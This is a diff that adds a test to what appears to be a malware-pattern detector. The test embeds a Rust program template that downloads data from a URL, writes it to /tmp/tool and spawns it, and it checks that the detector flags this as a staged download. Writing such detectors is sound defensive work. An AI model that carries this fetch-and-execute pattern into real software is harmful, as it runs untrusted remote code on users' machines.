@@ -197,3 +197,14 @@ test("the words of a program in Go are not made of letters that nobody can read"
   expect(await rulesIn("a.go", program("string(text[:7]), string(text[8:])"))).toContain("hidden-name");
   expect(await rulesIn("a.go", program('"/usr/bin/sort", string(text[8:])'))).toEqual([]);
 });
+
+test("what a program of Rust reads from a response is known where it is stored and started", async () => {
+  const program = (source: string) =>
+    `use std::{fs, io::Read, process::Command};\nfn main() {\n  let mut data = Vec::new();\n  if ${source}.read_to_end(&mut data).is_ok() && fs::write("/tmp/tool", &data).is_ok() {\n    let _ = Command::new("/tmp/tool").spawn();\n  }\n}\n`;
+  expect(await rulesIn("a.rs", program(`ureq::get("${FROM}").call().unwrap().into_reader()`))).toContain(
+    "staged-download",
+  );
+  expect(await rulesIn("a.rs", program('fs::File::open("tool.bin").unwrap()'))).not.toContain(
+    "staged-download",
+  );
+});
